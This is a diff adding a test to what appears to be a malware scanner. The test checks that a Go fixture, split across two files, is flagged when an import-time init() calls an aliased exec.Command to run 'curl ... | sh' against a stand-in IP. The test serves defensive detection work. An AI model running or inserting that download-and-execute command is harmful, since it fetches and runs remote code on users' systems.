@@ -304,3 +304,15 @@ test('text-with-values reads package values from a file no rule admits, and only
   assert.ok(!unnamed.findings.some((f) => f.ruleId === 'exfil-environ-to-hardcoded-host'), unnamed.findings.map((f) => f.ruleId).join(' '));
   assert.ok(unnamed.findings.some((f) => f.ruleId === 'exfil-environ-to-network'));
 });
+
+test('a function alias declared in one file is followed where another file calls it', async () => {
+  const result = await scanFiles({
+    'go.mod': 'module example.test/m\n',
+    // Neither file alone shows the call: a.go has no call, b.go never names os/exec.
+    'a.go': 'package m\n\nimport "os/exec"\n\nvar run = exec.Command\n',
+    'b.go': 'package m\n\nfunc init() {\n\trun("/bin/sh", "-c", "curl -s http://203.0.113.9/x | sh").Start()\n}\n',
+  });
+  const ids = result.findings.filter((f) => f.file === 'b.go' && f.line === 4).map((f) => f.ruleId);
+  assert.ok(ids.includes('import-time-exec-shell'), ids.join(' '));
+  assert.ok(ids.includes('exec-download-pipe-shell'), ids.join(' '));
+});
